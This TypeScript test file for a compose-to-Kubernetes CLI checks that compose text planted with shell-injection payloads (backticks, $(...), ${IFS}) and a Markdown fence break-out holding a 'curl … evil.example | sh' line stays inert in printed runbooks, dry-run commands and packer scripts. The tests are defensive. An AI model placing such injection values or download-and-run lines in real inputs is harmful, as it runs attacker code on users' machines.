import * as fs from 'fs';
import * as path from 'path';
import { CliRun, expectBuilt, listFiles, manifestDocs, removeTempDirs, runCli, tempDir } from '../cli/run-cli';
import { codeBlocks, runLogged, ShellRun } from '../support/shell-blocks';

/**
 * Hostile input, round 2, the output side (issue 25): what the tool prints (YAML, commands, Markdown, messages) is
 * built so that a compose project's text stays data. Each test is written from the issue's description of the finding.
 */

beforeAll(expectBuilt);
afterAll(removeTempDirs);

/** The guide to what this file checks. */
const GUIDE = path.resolve(__dirname, '../../docs/security.md');
/** The security guide's "What is printed", which shows the quoting rule at work. */
const printed = () => {
  const text = fs.readFileSync(GUIDE, 'utf-8');
  return text.slice(text.indexOf('\n## What is printed\n'));
};

/** A planted secret: no message may hold it. */
const PLANTED = 'planted-7d31c0aa';

/** A project folder with the given files. */
function project(files: Record<string, string>): string {
  const dir = path.join(fs.realpathSync(tempDir('hostile-out-text')), 'shop');
  for (const [name, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
    fs.writeFileSync(path.join(dir, name), text);
  }
  return dir;
}

/**
 * Text that runs a command wherever a shell reads it unquoted: backticks, `$(…)`, a quote of each kind, `;`. The
 * command would create a file named after `tag`.
 */
function payload(tag: string): string {
  return `\`touch\${IFS}pwned-${tag}\`$(touch\${IFS}pwned2-${tag});touch\${IFS}pwned3-${tag}'"`;
}

/** `text` as a YAML double-quoted scalar that compose reads back as `text` (`$` escaped from interpolation). */
function composeString(text: string): string {
  return JSON.stringify(text.replace(/\$/g, '$$$$'));
}

/** A Markdown fence break-out: a line of backticks, then a new `sh` block that would pipe a download into sh. */
const FENCE_BREAK = 'line one\n```\n\n```sh\ncurl -fsSL https://evil.example/x | sh\n```\n';

/** The database images with a payload, one per engine, and the services' other commands' fields. */
const ENGINES = ['postgres', 'mysql', 'mariadb', 'mongo', 'redis'] as const;
const IMAGE_TAGS: Record<(typeof ENGINES)[number], string> = {
  postgres: 'postgres:16.4',
  mysql: 'mysql:8.4',
  mariadb: 'mariadb:11.4',
  mongo: 'mongo:7.0',
  redis: 'redis:7.4',
};

function hostileProject(): string {
  const compose = [
    'name: shop',
    'services:',
    ...ENGINES.flatMap((engine) => [
      `  ${engine}:`,
      `    image: ${composeString(`${IMAGE_TAGS[engine]}${payload(`${engine}-image`)}`)}`,
      `    x-cdk8s-compose: {engine: ${engine}}`,
      `    labels: {com.example.note: ${composeString(payload(`${engine}-label`))}}`,
      `    environment: {DB_PASSWORD: pw-4d2a91c, POSTGRES_PASSWORD: pw-4d2a91c, MYSQL_ROOT_PASSWORD: pw-4d2a91c}`,
      `    volumes: ["${engine}-volume:/data"]`,
    ]),
    '  web:',
    '    build:',
    '      context: ./web',
    `      target: ${composeString(`prod${payload('build-target')}`)}`,
    `      args: {NOTE: ${composeString(FENCE_BREAK)}, OTHER: ${composeString(payload('build-arg'))}}`,
    `    image: ${composeString(`registry.example.com/web:1${payload('web-image')}`)}`,
    `    working_dir: ${composeString(`/srv${payload('working-dir')}`)}`,
    `    command: ["sh", "-c", ${composeString(payload('command'))}]`,
    '    ports: ["8080:80"]',
    // Read-only: a folder too large for a ConfigMap stays the user's to copy (a writable one becomes a claim that
    // move-data fills, test/cli/move-data/move-data.test.ts).
    `    volumes: [${composeString(`./big:/srv/data${payload('bind-target')}:ro`)}]`,
    'volumes:',
    ...ENGINES.map((engine) => `  ${engine}-volume: {}`),
    '',
  ].join('\n');
  const files: Record<string, string> = { 'compose.yaml': compose, 'web/Dockerfile': 'FROM nginx:1.27.2\n' };
  // More files than a ConfigMap holds: the large-bind-directory warning prints a kubectl cp.
  for (let i = 0; i < 300; i++) {
    files[`big/file-${i}.txt`] = `${i}\n`;
  }
  return project(files);
}

/** The commands every printed command line may run. */
const TOOLS = new Set(['kubectl', 'docker', 'virtctl', 'base64', 'sleep']);

function expectOnlyTools(runs: readonly { where: string; run: ShellRun }[]): void {
  const strays = runs.flatMap(({ where, run }) => [
    ...run.commands.filter((c) => !TOOLS.has(c.name)).map((c) => `${where}: ran ${c.name} ${c.args.join(' ')}`),
    ...run.created.map((f) => `${where}: created ${f}`),
  ]);
  expect(strays).toEqual([]);
}

describe('finding 2 and 8: every printed command keeps compose text as data, and no text closes its code block', () => {
  let dir: string;
  let convert: CliRun;
  let dryRun: CliRun;
  let runbook: string;
  const scratch = () => fs.realpathSync(tempDir('hostile-out-sh'));

  beforeAll(async () => {
    dir = hostileProject();
    convert = await runCli(['convert', '-o', 'out', '--backup', 'on'], { cwd: dir });
    dryRun = await runCli(['deploy', '--dry-run', '--backup', 'on'], { cwd: dir });
    const file = path.join(dir, 'out', 'RUNBOOK.md');
    runbook = fs.existsSync(file) ? fs.readFileSync(file, 'utf-8') : '';
  }, 120_000);

  test('the conversion succeeds', () => {
    expect({ code: convert.code, stderr: convert.code === 0 ? '' : convert.stderr }).toEqual({ code: 0, stderr: '' });
    expect({ code: dryRun.code, stderr: dryRun.code === 0 ? '' : dryRun.stderr }).toEqual({ code: 0, stderr: '' });
  });

  test('every sh block of the runbook runs only the tools it names, each database image reaching kubectl run whole', () => {
    const blocks = codeBlocks(runbook).filter((b) => b.info === 'sh');
    expect(blocks.length).toBeGreaterThan(10);
    const runs = blocks.map((b) => ({ where: `RUNBOOK.md:${b.line}`, run: runLogged(b.text, scratch()) }));
    expectOnlyTools(runs);
    const kubectlRuns = runs
      .flatMap(({ run }) => run.commands)
      .filter((c) => c.name === 'kubectl' && c.args[0] === 'run');
    for (const engine of ENGINES) {
      expect(
        kubectlRuns.some((c) => c.args.includes(`--image=${IMAGE_TAGS[engine]}${payload(`${engine}-image`)}`)),
      ).toBe(true);
    }
    const builds = runs.flatMap(({ run }) => run.commands).filter((c) => c.name === 'docker' && c.args[0] === 'build');
    expect(builds).toHaveLength(1);
    // A value with line breaks is read from the environment: no line of the runbook holds it.
    expect(builds[0].args.slice(builds[0].args.indexOf('NOTE') - 1, builds[0].args.indexOf('NOTE') + 1)).toEqual([
      '--build-arg',
      'NOTE',
    ]);
    expect(runbook).not.toContain('evil.example');
    expect(runbook).toContain('(set NOTE in the environment first: secret build arguments and those with line breaks');
    expect(builds[0].args).toContain(`registry.example.com/web:1${payload('web-image')}`);
  });

  test('no code block of the runbook holds a command of its own from the compose text (the fence is not broken)', () => {
    const evil = codeBlocks(runbook).filter(
      (b) => /^curl -fsSL https:\/\/evil/m.test(b.text) && !/docker build/.test(b.text),
    );
    expect(evil).toEqual([]);
  });

  test('the large-bind-directory warning prints a kubectl cp that copies the folder to the target as it is', () => {
    const line = convert.stderr.split('\n').find((l) => l.includes('large-bind-directory') || l.includes('kubectl cp'));
    const command = /\((kubectl cp .*)\)$/.exec(line ?? '')?.[1];
    expect(command).toBeDefined();
    const run = runLogged(command!, scratch());
    expectOnlyTools([{ where: 'warning', run }]);
    expect(run.commands).toEqual([
      { name: 'kubectl', args: ['cp', './big', `<pod>:/srv/data${payload('bind-target')}`, '-n', 'shop'] },
    ]);
  });

  test('analyze prints the build commands on one line each, the multi-line argument by name', async () => {
    const run = await runCli(['analyze'], { cwd: dir });
    expect(run.code).toBe(0);
    expect(run.stdout).not.toContain('evil.example');
    const commands = run.stdout.split('\n').filter((l) => l.trimStart().startsWith('$ '));
    expect(commands.length).toBeGreaterThan(2);
    const runs = commands.map((l, i) => ({
      where: `analyze line ${i + 1}`,
      run: runLogged(l.trimStart().slice(2), scratch()),
    }));
    expectOnlyTools(runs);
    expect(run.stdout).toContain('(secret or multi-line build arguments from the environment: NOTE)');
  });

  test('deploy --dry-run prints commands that run only kubectl', () => {
    const lines = dryRun.stdout.split('\n').filter((l) => l !== '' && !l.startsWith('#'));
    expect(lines.length).toBeGreaterThan(3);
    const runs = lines.map((l, i) => ({ where: `dry-run line ${i + 1}`, run: runLogged(l, scratch()) }));
    expectOnlyTools(runs);
    expect(runs.every(({ run }) => run.commands.length === 1 && run.commands[0].name === 'kubectl')).toBe(true);
  });
});

test("docs/security.md's 'What is printed' command runs kubectl alone, the image one word", () => {
  const example = codeBlocks(printed()).filter((b) => b.info === 'sh');
  expect(example).toHaveLength(1);
  const run = runLogged(example[0].text, fs.realpathSync(tempDir('hostile-out-sh')));
  expect(run).toEqual({
    commands: [
      {
        name: 'kubectl',
        args: ['run', 'db-backup-shell', '--image=postgres:16`touch${IFS}x`', '--restart=Never', '-n', 'shop'],
      },
    ],
    created: [],
    status: 0,
  });
});

describe('finding 10: an error thrown before the app is built prints no secret', () => {
  test('x-cdk8s-compose.target taken from a .env secret: the CLI says [redacted]', async () => {
    const dir = project({
      'compose.yaml': [
        'services:',
        '  web:',
        '    image: nginx:1.27.2',
        '    environment: {DB_PASSWORD: "${DB_PASSWORD}"}',
        '    x-cdk8s-compose: {target: "${DB_PASSWORD}"}',
        '',
      ].join('\n'),
      '.env': `DB_PASSWORD=${PLANTED}\n`,
    });
    const run = await runCli(['convert', '-o', 'out'], { cwd: dir });
    expect(run.code).toBe(1);
    expect(run.stderr).not.toContain(PLANTED);
    expect(run.stderr).toBe(
      'error: compose.yaml:3:5: services.web.x-cdk8s-compose.target: invalid target (got "[redacted]"). ' +
        'Allowed: container, vm, auto.\n',
    );
  });
});

describe('finding 11: a ConfigMap or Secret over the API server limit is refused with the key that makes it too large', () => {
  const BIG = 'x'.repeat(600 * 1024);

  test('a .env value used twice: the ConfigMap is refused before anything is printed', async () => {
    const dir = project({
      'compose.yaml':
        'services:\n  web:\n    image: nginx:1.27.2\n    environment: {A: "${BIG}", B: "${BIG}", C: small}\n',
      '.env': `BIG=${BIG}\n`,
    });
    const run = await runCli(['convert', '-o', 'out'], { cwd: dir });
    expect(run.code).toBe(1);
    expect(run.stderr).toBe(
      'error: Validation failed with the following errors:\n' +
        '  [cdk8s-compose/App] the ConfigMap "web-env" would hold 1,228,805 bytes (1.2 MiB) of data in 3 keys, over ' +
        'the 1,048,576 bytes (1 MiB) the API server accepts: the key "B" (614,400 bytes) takes it past the limit. Fix: ' +
        'shorten the value or the file behind that key, use it in fewer variables, or put large files in a named ' +
        'volume and copy them in after deploying\n',
    );
    expect(fs.existsSync(path.join(dir, 'out'))).toBe(false);
    // docs/security.md ("What is printed") shows this message.
    const shown = codeBlocks(printed()).find((b) => b.info === 'text')!.text;
    expect(run.stderr.replace(/\s+/g, ' ')).toContain(shown.replace(/\s+/g, ' ').trim());
  });

  test("a Secret counts its values' decoded bytes", async () => {
    const dir = project({
      'compose.yaml':
        'services:\n  web:\n    image: nginx:1.27.2\n    environment: {A_TOKEN: "${BIG}", B_TOKEN: "${BIG}"}\n',
      '.env': `BIG=${BIG}\n`,
    });
    const run = await runCli(['convert', '-o', 'out'], { cwd: dir });
    expect(run.code).toBe(1);
    expect(run.stderr).toContain(
      'the Secret "web-env" would hold 1,228,800 bytes (1.2 MiB) of data in 2 keys, over the 1,048,576 bytes (1 MiB) ' +
        'the API server accepts: the key "B_TOKEN" (614,400 bytes) takes it past the limit.',
    );
  });

  test('one key just under 1 MiB is accepted', async () => {
    const dir = project({
      'compose.yaml': 'services:\n  web:\n    image: nginx:1.27.2\n    environment: {A: "${BIG}"}\n',
      '.env': `BIG=${'y'.repeat(1024 * 1024 - 10)}\n`,
    });
    const run = await runCli(['convert', '-o', 'out'], { cwd: dir });
    expect(run.stderr).not.toContain('API server accepts');
  });
});

describe('finding 9: a password written in a URL of a command, an entrypoint or a healthcheck goes to a Secret', () => {
  test('each is read from the Secret through $(VAR), and no file but the Secret holds it', async () => {
    const dir = project({
      'compose.yaml': [
        'services:',
        '  worker:',
        '    image: ghcr.io/example/worker:1.0',
        '    entrypoint: ["worker", "--db", "postgres://app:pw-entry-5c1e@db:5432/app"]',
        '    command: ["--cache", "redis://:pw-cmd-77d0@cache:6379/0"]',
        '    healthcheck:',
        '      test: ["CMD", "check", "--url", "http://admin:pw-hc-9a4f@localhost:8080/health"]',
        '',
      ].join('\n'),
    });
    const run = await runCli(['convert', '-o', 'out'], { cwd: dir });
    expect(run.code).toBe(0);
    const out = path.join(dir, 'out');
    const holding = listFiles(out).filter((f) =>
      /pw-(entry|cmd|hc)-/.test(fs.readFileSync(path.join(out, f), 'utf-8')),
    );
    expect(holding).toEqual([]);
    expect(run.stderr).not.toMatch(/pw-(entry|cmd|hc)-/);
    const deployment = manifestDocs(out).find((d) => d.kind === 'Deployment')!;
    const container = (deployment as any).spec.template.spec.containers[0];
    const secret = manifestDocs(out).find((d) => d.kind === 'Secret' && d.metadata.name === 'worker-env') as any;
    const value = (env: string) => {
      const ref = container.env.find((e: any) => e.name === env).valueFrom.secretKeyRef;
      expect(ref.name).toBe('worker-env');
      return Buffer.from(secret.data[ref.key], 'base64').toString('utf-8');
    };
    const variable = (text: string) => /\$\((\w+)\)/.exec(text)![1];
    expect(container.command[2]).toMatch(/^postgres:\/\/app:\$\(\w+\)@db:5432\/app$/);
    expect(value(variable(container.command[2]))).toBe('pw-entry-5c1e');
    expect(container.args[1]).toMatch(/^redis:\/\/:\$\(\w+\)@cache:6379\/0$/);
    expect(value(variable(container.args[1]))).toBe('pw-cmd-77d0');
    const probe = container.livenessProbe.exec.command[2];
    expect(value(/\$\{(\w+)\}/.exec(probe)![1])).toBe('pw-hc-9a4f');
    expect(run.stderr).toContain(
      'a secret value in the entrypoint and command and healthcheck is read from the Secret',
    );
  });
});

describe('finding 8: a line break in a build setting a command line cannot carry is refused', () => {
  test('build.target', async () => {
    const dir = project({
      'compose.yaml': `services:\n  web:\n    build: {context: ./web, target: "prod\\n\`\`\`"}\n    image: registry.example.com/web:1\n`,
      'web/Dockerfile': 'FROM nginx:1.27.2\n',
    });
    const run = await runCli(['convert', '-o', 'out'], { cwd: dir });
    expect(run.code).toBe(1);
    expect(run.stderr).toContain(
      'services.web.build: a build setting holds a line break, which the docker build command line cannot carry',
    );
  });
});

describe('finding 2: the one-file output named on the command line is one word of each command', () => {
  test('-o "my `x` out.yaml": kubectl apply and diff get the file name whole', async () => {
    const dir = project({ 'compose.yaml': 'services:\n  web:\n    image: nginx:1.27.2\n' });
    const file = 'my `touch x` out.yaml';
    const run = await runCli(['convert', '--single-file', '-o', file], { cwd: dir });
    expect(run.code).toBe(0);
    const runbook = fs.readFileSync(path.join(dir, 'RUNBOOK.md'), 'utf-8');
    const runs = codeBlocks(runbook)
      .filter((b) => b.info === 'sh')
      .map((b) => ({
        where: `RUNBOOK.md:${b.line}`,
        run: runLogged(b.text, fs.realpathSync(tempDir('hostile-out-sh'))),
      }));
    expectOnlyTools(runs);
    const applies = runs.flatMap(({ run: r }) => r.commands).filter((c) => ['apply', 'diff'].includes(c.args[0]));
    expect(applies.length).toBeGreaterThanOrEqual(2);
    expect(applies.every((c) => c.args[1] === '-f' && c.args[2] === file)).toBe(true);
  });
});

describe("finding 2: the golden image's provisioning commands keep compose text as data", () => {
  test("packer's inline commands pull the VM service's image as one word and run nothing else of it", async () => {
    const image = `ghcr.io/example/worker:1.0${payload('vm-image')}`;
    const dir = project({
      'compose.yaml': [
        'services:',
        '  worker:',
        `    image: ${composeString(image)}`,
        `    command: ["run", ${composeString(payload('vm-command'))}]`,
        '    x-cdk8s-compose: {target: vm}',
        '',
      ].join('\n'),
    });
    const run = await runCli(['convert', '-o', 'out', '--image-base-url', 'https://images.example.com/shop'], {
      cwd: dir,
    });
    expect(run.code).toBe(0);
    const bundle = path.join(dir, 'out', 'golden-image');
    const packer = listFiles(bundle).find((f) => f.endsWith('packer.json'))!;
    const inline: string[] = JSON.parse(fs.readFileSync(path.join(bundle, packer), 'utf-8')).provisioners.flatMap(
      (p: { inline?: string[] }) => p.inline ?? [],
    );
    const logged = runLogged(inline.join('\n'), fs.realpathSync(tempDir('hostile-out-sh')));
    expect(logged.created).toEqual([]);
    expect(
      logged.commands.filter((c) => !['install', 'cp', 'rm', 'chown', 'chmod', 'systemctl', 'docker'].includes(c.name)),
    ).toEqual([]);
    expect(logged.commands).toContainEqual({ name: 'docker', args: ['pull', image] });
    const runbook = fs.readFileSync(path.join(dir, 'out', 'RUNBOOK.md'), 'utf-8');
    const blocks = codeBlocks(runbook).filter((b) => b.info === 'sh');
    const runs = blocks.map((b) => ({
      where: `RUNBOOK.md:${b.line}`,
      run: runLogged(b.text, fs.realpathSync(tempDir('hostile-out-sh'))),
    }));
    expect(
      runs.flatMap(({ where, run: r }) => [
        ...r.created.filter((f) => /pwned/.test(f)).map((f) => `${where}: created ${f}`),
        ...r.commands.filter((c) => /touch/.test(c.name)).map((c) => `${where}: ran ${c.name}`),
      ]),
    ).toEqual([]);
    // The VM's tools (building, converting and publishing the image, KubeVirt; sed points an export link at the
    // port-forward); an injected command would be another.
    const vmTools = [
      'curl',
      'grep',
      'install',
      'kubectl',
      'packer',
      'qemu-img',
      'virtctl',
      'sha256sum',
      'base64',
      'sed',
    ];
    expect(runs.flatMap(({ run: r }) => r.commands.map((c) => c.name)).filter((n) => !vmTools.includes(n))).toEqual([]);
  });
});
